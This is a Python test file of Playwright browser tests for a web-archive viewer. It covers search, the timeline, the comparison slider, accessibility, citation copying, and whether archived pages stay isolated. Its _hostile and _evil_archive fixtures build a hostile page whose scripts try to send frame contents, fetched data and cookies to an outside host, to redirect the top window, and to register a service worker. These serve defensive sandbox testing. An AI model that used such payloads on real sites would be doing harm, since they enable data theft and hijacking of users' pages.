"""The pages in Chromium: search, timeline, comparison and slider; and a hostile captured page that gets nowhere."""

from __future__ import annotations

import importlib.util
import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from tests.chromium import started
from tests.pipeline.web.pages.library import COURT, PICTURE, PNG, Library, Served, at, served
from tests.site import Site, answer

_MISSING = shutil.which("chromium") is None or importlib.util.find_spec("playwright") is None
if _MISSING and os.environ.get("CI"):
    pytest.fail("Chromium or Playwright is not installed, and CI is to have both", pytrace=False)
no_browser = pytest.mark.skipif(
    _MISSING,
    reason="Chromium or Playwright is not installed: apt-get install chromium, pip install '.[browser]'",
)
pytestmark = no_browser


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    with started() as browser:
        yield browser


class Visit:
    """A page of the browser, and everything that it asked for."""

    def __init__(self, chromium: Any, **options: Any) -> None:
        self.context = chromium.new_context(**options)
        self.page = self.context.new_page()
        self.requests: list[str] = []
        self.refused: list[tuple[str, str]] = []  # by the browser itself, for a policy: these were never sent
        self.context.on("request", lambda request: self.requests.append(request.url))
        self.context.on("requestfailed", lambda request: self.refused.append((request.url, request.failure)))

    def leaves(self, running: Served) -> list[str]:
        """Requests that left the two origins."""
        ours = (running.pages + "/", running.replay + "/", "data:", "blob:", "about:")
        refused = [url for url, why in self.refused if why in {"csp", "origin"}]
        sent = list(self.requests)
        for url in refused:
            sent.remove(url)
        return [url for url in sent if not url.startswith(ours)]


@pytest.fixture
def visit(chromium: Any) -> Iterator[Visit]:
    made = Visit(chromium, viewport={"width": 1200, "height": 800})
    yield made
    made.context.close()


def test_search_leads_to_the_timeline_and_the_text(both: Served, visit: Visit) -> None:
    page = visit.page
    page.goto(both.pages)
    page.wait_for_function("document.activeElement.name === 'q'")  # the field gets the focus
    page.keyboard.type("chairman resign")
    page.keyboard.press("Enter")
    page.wait_for_url("**/search?*")
    assert page.locator("mark").first.inner_text() == "chairman"
    page.get_by_role("link", name="All snapshots").first.click()
    page.wait_for_url("**/url?*")
    assert page.locator("ol.snapshots > li").count() == 9
    assert "unreachable" in page.locator("ol.snapshots").inner_text()
    page.get_by_role("link", name="Read the newest text").click()
    page.wait_for_url("**/read?*")
    assert "Correction" in page.locator("article").inner_text()
    assert visit.leaves(both) == []


@pytest.mark.full
def test_the_slider_is_worked_by_keys(both: Served, visit: Visit) -> None:
    page = visit.page
    page.goto(f"{both.pages}/compare?url={quote(COURT, safe='')}&step=1")
    assert page.locator(".difference del").first.inner_text().startswith("knew")
    slider = page.get_by_role("slider")
    slider.focus()
    page.keyboard.press("ArrowRight")
    page.locator(".difference ins", has_text="questions").wait_for()
    assert "should resign" in page.locator(".difference del").first.inner_text()
    page.keyboard.press("End")
    page.locator(".difference ins", has_text="Correction").wait_for()
    assert page.evaluate("document.activeElement.id") == "step"
    assert slider.get_attribute("aria-valuetext") == "20 November 2026, 12:00"
    page.wait_for_url("**step=3")
    assert page.locator("select[name=from]").input_value() == "20250521070000"
    assert visit.leaves(both) == []


@pytest.mark.full
def test_the_slider_works_without_scripts(both: Served, chromium: Any) -> None:
    still = Visit(chromium, java_script_enabled=False)
    still.page.goto(f"{both.pages}/compare?url={quote(COURT, safe='')}&step=1")
    still.page.get_by_role("slider").focus()
    still.page.keyboard.press("ArrowRight")
    still.page.get_by_role("button", name="Show").click()
    still.page.locator(".difference ins", has_text="questions").first.wait_for()
    still.page.get_by_role("link", name="Later change").click()
    still.page.locator(".difference ins", has_text="Correction").first.wait_for()
    still.context.close()


@pytest.mark.full
@pytest.mark.parametrize(
    "path",
    [
        *("/", "/search?q=court", "/url?url={}", "/read?url={}", "/compare?url={}", "/page?url={}", "/board", "/none"),
        *("/url?url={}&in=2025-05", "/pages?url={}&match=host", "/search?title=open&author=stam"),
    ],
)
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_pages_fit_a_phone_and_can_be_read(both: Served, chromium: Any, path: str, scheme: str) -> None:
    phone = Visit(chromium, viewport={"width": 360, "height": 740}, color_scheme=scheme)
    phone.page.goto(both.pages + path.format(quote(COURT, safe="")))
    assert phone.page.evaluate("document.documentElement.scrollWidth") <= 360
    assert phone.page.evaluate(_FAINT) == []
    assert phone.page.evaluate(_UNNAMED) == []
    phone.page.keyboard.press("Tab")
    if path != "/":  # there the field has the focus
        assert phone.page.evaluate("document.activeElement.className") == "skip"
    phone.context.close()


# Texts whose contrast with what lies behind them is less than WCAG 2.2 §1.4.3 asks for.
_FAINT = """() => {
  const parts = text => text.match(/[\\d.]+/g).map(Number);
  const light = ([r, g, b]) => [r, g, b].map(v => (v /= 255) <= .04045 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4)
    .reduce((sum, v, at) => sum + v * [.2126, .7152, .0722][at], 0);
  const behind = node => {
    for (let it = node; it; it = it.parentElement) {
      const colour = parts(getComputedStyle(it).backgroundColor);
      if (colour.length < 4 || colour[3] > 0) return colour;
    }
    return [255, 255, 255];
  };
  const faint = [];
  for (const node of document.querySelectorAll("body *")) {
    if (![...node.childNodes].some(it => it.nodeType === 3 && it.data.trim()) || !node.checkVisibility()) continue;
    const [one, other] = [light(parts(getComputedStyle(node).color)), light(behind(node))].sort((a, b) => b - a);
    const contrast = (one + .05) / (other + .05);
    if (contrast < 4.5) faint.push(`${node.className} ${node.textContent.trim().slice(0, 30)} ${contrast.toFixed(2)}`);
  }
  return faint;
}"""

# Fields without a label, links and buttons without a name, frames without a title, headings that skip a level.
_UNNAMED = """() => {
  const found = [];
  for (const it of document.querySelectorAll("input:not([type=hidden]), select"))
    if (!it.labels.length && !it.getAttribute("aria-label")) found.push(it.outerHTML);
  for (const it of document.querySelectorAll("a, button")) if (!it.textContent.trim()) found.push(it.outerHTML);
  for (const it of document.querySelectorAll("iframe")) if (!it.title) found.push(it.outerHTML);
  let last = 0;
  for (const it of document.querySelectorAll("h1, h2, h3, h4")) {
    const level = +it.tagName[1];
    if (level > last + 1) found.push(it.outerHTML);
    last = level;
  }
  if (document.querySelectorAll("main").length !== 1 || document.querySelectorAll("h1").length !== 1) found.push("main, h1");
  return found;
}"""


EVIL = "https://evil.example/"


def _hostile(running: Served, outside: str) -> bytes:
    """A page that tries everything; `outside` is a server that is to hear nothing."""
    tries = f"""
      const told = what => {{ new Image().src = '{outside}/told?' + what; document.title = what; }};
      try {{ told('parent ' + parent.document.body.innerHTML); }} catch (error) {{ told('kept out'); }}
      try {{ top.location = '{outside}/top'; }} catch (error) {{}}
      for (const it of ['{running.pages}/', '{running.pages}/cdx?url=*', '{running.replay}/2026/{COURT}'])
        fetch(it).then(answer => answer.text()).then(told);
      try {{ document.cookie = 'a=b'; localStorage.x = 1; told(document.cookie); }} catch (error) {{}}
      try {{ navigator.serviceWorker.register('/20260101000000/{EVIL}sw.js'); }} catch (error) {{}}
      window.open('{outside}/open'); new WebSocket('ws://127.0.0.1:9/');
      navigator.sendBeacon('{outside}/beacon');"""
    return f"""<!doctype html><html><head><title>Evil</title><base href="{outside}/base/" target="_top">
      <meta http-equiv="refresh" content="0; url={outside}/refresh"><meta http-equiv="set-cookie" content="a=b">
      <link rel="stylesheet" href="{outside}/out.css"><link rel="preconnect" href="{outside}">
      <link rel="prefetch" href="{outside}/prefetch"><link rel="dns-prefetch" href="//outside.example">
      <style>@import "{outside}/import.css"; body {{ background: url({outside}/back.png) }}
        @font-face {{ font-family: f; src: url({outside}/font.woff2) }} h1 {{ font-family: f }}</style>
      <script>{tries}</script><script src="{outside}/out.js"></script></head>
      <body onload="{tries.replace('"', "'")}"><h1>The evil page</h1>
      <img src="{outside}/x.png" srcset="{outside}/x2.png 2x" onerror="{tries}"><img src="{EVIL}svg.svg" alt="">
      <a id="top" target="_top" href="{outside}/link">top</a> <a id="script" href="javascript:{tries}">script</a>
      <a id="kept" target="_top" href="{EVIL}second">kept</a>
      <form id="f" action="{outside}/form" target="_top" method="post"><button id="send">send</button></form>
      <form action="{running.pages}/search"><button id="ask" formtarget="_top">ask</button></form>
      <iframe src="{running.pages}/"></iframe><iframe src="{outside}/frame"></iframe>
      <iframe id="svg" src="{EVIL}svg.svg"></iframe><iframe id="nested" src="{EVIL}nested"></iframe>
      <iframe srcdoc="<script>{tries.replace('"', "'")}</script><img src='{outside}/srcdoc'>"></iframe>
      <object data="{running.pages}/board"></object><embed src="{outside}/embed">
      <svg><script>{tries}</script><image href="{outside}/svg.png"/><set attributeName="href" to="{outside}/set"/></svg>
      <video src="{outside}/v.mp4" autoplay poster="{outside}/poster"></video>
      <img src="{EVIL}picture.png" id="picture"></body></html>""".encode()


@pytest.fixture
def outside() -> Iterator[Site]:
    with Site() as site:
        yield site


def _evil_archive(library: Library, running: Served, outside: str) -> None:
    """The hostile page, and parts of it that are served as they are: there nothing but the headers stands in their way."""
    moment = at("2026-01-01T00:00:00")
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" '
        f'onload="fetch(\'{outside}/svg-load\')"><rect width="9" height="9" fill="red" id="seen"/>'
        f'<style>@import "{outside}/svg.css"; rect {{ mask: url({outside}/mask.svg#m) }}</style>'
        f"<script>fetch('{outside}/svg-script'); parent.postMessage('x', '*'); top.location = '{outside}/svg-top'</script>"
        f'<image xlink:href="{outside}/svg-image" width="9" height="9"/><use href="{outside}/use.svg#x"/>'
        f'<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{running.pages}/"/>'
        f'<img xmlns="http://www.w3.org/1999/xhtml" src="{outside}/foreign"/></foreignObject></svg>'
    )
    library.keep(
        (EVIL, moment, {"body": _hostile(running, outside), "head": f"Link: <{outside}/header.css>; rel=preload; as=style\r\nRefresh: 0; url={outside}/\r\nSet-Cookie: a=b\r\n"}),
        (f"{EVIL}svg.svg", moment, {"body": svg.encode(), "kind": "image/svg+xml"}),
        (f"{EVIL}nested", moment, {"body": b"<p>nested, and shown</p>"}),
        (f"{EVIL}second", moment, {"body": b"<h1>The second page</h1>"}),
        (f"{EVIL}picture.png", moment, {"body": PNG, "kind": "image/png"}),
        (f"{EVIL}sw.js", moment, {"body": b"self.onfetch = () => {}", "kind": "text/javascript"}),
    )  # fmt: skip


@pytest.mark.full
def test_a_hostile_page_reaches_nothing(library: Library, visit: Visit, outside: Site, tmp_path: Path) -> None:
    elsewhere = outside.url("").rstrip("/")
    outside.answers["/frame"] = answer(b"outside")
    with served(library, tmp_path) as running:
        _evil_archive(library, running, elsewhere)
        page, context = visit.page, visit.context
        where = f"{running.pages}/page?url={quote(EVIL, safe='')}"
        page.goto(where, wait_until="networkidle")
        frame = page.frame_locator("iframe.captured-page")
        assert frame.locator("h1").inner_text() == "The evil page", "the page itself is shown"
        assert frame.frame_locator("#nested").locator("p").inner_text() == "nested, and shown"
        assert frame.locator("#picture").evaluate("it => it.naturalWidth") == 1
        for name in ("#top", "#script", "#send", "#ask"):
            frame.locator(name).click()
            page.wait_for_load_state("networkidle")
            assert page.url == where, name
            page.goto(where, wait_until="networkidle")
        frame.locator("#kept").click()
        frame.get_by_role("heading", name="The second page").wait_for()
        assert page.url == where
        for part in ("", "svg.svg"):  # without any frame around them
            page.goto(f"{running.replay}/20260101000000/{EVIL}{part}", wait_until="networkidle")
            assert page.url.startswith(running.replay)
        assert page.locator("img").evaluate("it => it.naturalWidth") == 9, "SVG is shown, as a picture"
        assert visit.leaves(running) == []
        assert outside.requests == []
        assert context.cookies() == []
        assert len(context.pages) == 1
        assert context.service_workers == []
        framed = [url for url in visit.requests if url.startswith(running.pages) and "/page?" not in url]
        assert [url for url in framed if not url.startswith(f"{running.pages}/static/")] == [], "it asked the interface"


@pytest.mark.full
def test_pages_of_other_origins_cannot_frame_or_read_ours(both: Served, visit: Visit, outside: Site) -> None:
    outside.answers["/"] = answer(
        f"<iframe src='{both.pages}/'></iframe><iframe src='{both.replay}/2026/{COURT}'></iframe><p>outside</p>".encode()
    )
    page = visit.page
    page.goto(outside.url("/"), wait_until="networkidle")
    for frame in page.frames[1:]:
        assert "open court" not in frame.content()
        assert "on record" not in frame.content()
    picture = f"/web/20240302090003id_/{PICTURE}"
    warc = f"/warc/{next(both.library.archive.snapshots(COURT)).record.key}"
    asked = [
        "/",
        "/search?q=court",
        f"/cdx?url={COURT}",
        f"/index?url={COURT}",
        f"/timemap/json/{COURT}",
        picture,
        warc,
    ]
    for url in (*(both.pages + path for path in asked), f"{both.replay}/2026/{COURT}"):
        assert page.evaluate(_FETCHED, url) == "refused", url
    for tag, attribute in (("img", "src"), ("script", "src"), ("link rel=stylesheet", "href"), ("embed", "src")):
        assert page.evaluate(_LOADED, [tag, attribute, both.pages + picture]) == "refused", tag
    page.goto(f"{both.pages}/")
    assert page.evaluate(_FETCHED, f"{both.pages}{picture}") != "refused", "its own pages may"
    assert page.evaluate(_LOADED, ["img", "src", both.pages + picture]) == "refused", (
        "but what is captured is no part of them"
    )


_FETCHED = "url => fetch(url).then(it => it.text(), error => 'refused')"
_LOADED = """([tag, attribute, url]) => new Promise(done => {
  const [name, ...others] = tag.split(" ");
  const it = document.createElement(name);
  for (const other of others) it.setAttribute(...other.split("="));
  it.onload = () => done("loaded");
  it.onerror = () => done("refused");
  setTimeout(() => done("refused"), 1500);
  it.setAttribute(attribute, url);
  document.body.append(it);
})"""


@pytest.mark.full
def test_a_citation_is_copied_by_one_click(both: Served, visit: Visit) -> None:
    visit.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=both.pages)
    page = visit.page
    page.goto(f"{both.pages}/evidence?url={quote(COURT, safe='')}")
    cited = page.locator(".citation cite").inner_text()
    assert COURT in cited
    page.locator(".citation button").click()
    page.wait_for_function("document.querySelector('.citation button').textContent === 'Copied'")
    assert page.evaluate("navigator.clipboard.readText()") == cited
